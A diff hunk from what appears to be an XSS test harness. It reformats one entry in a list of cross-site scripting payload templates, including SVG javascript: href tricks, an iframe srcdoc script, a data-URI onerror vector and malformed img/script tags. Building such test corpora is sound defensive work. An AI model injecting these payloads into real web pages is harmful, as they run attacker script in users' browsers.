@@ -92,8 +92,8 @@ _TEMPLATES: list[tuple[str, str]] = [
     ("svg", "<svg><a><animate attributeName=href values=javascript:__xss(§) /><text y=9>x</text></a></svg>"),
     ("svg", '<svg><a><set attributeName="href" to="javascript:__xss(§)"/><text y=9>x</text></a></svg>'),
     ("svg", "<svg><foreignObject><iframe srcdoc=\"<script>parent.__xss(§)</script>\"></iframe></foreignObject></svg>"),
-    ("svg", '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'1\' '
-            'onerror=\'__xss(§)\'/></svg>#x"/></svg>'),
+    ("svg", ('<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'1\' '
+             'onerror=\'__xss(§)\'/></svg>#x"/></svg>')),
     # Malformed and unclosed tags, comments and entity tricks.
     ("malformed", "<img src=x:x onerror=__xss(§)//"),
     ("malformed", '<img """><script>__xss(§)</script>">'),
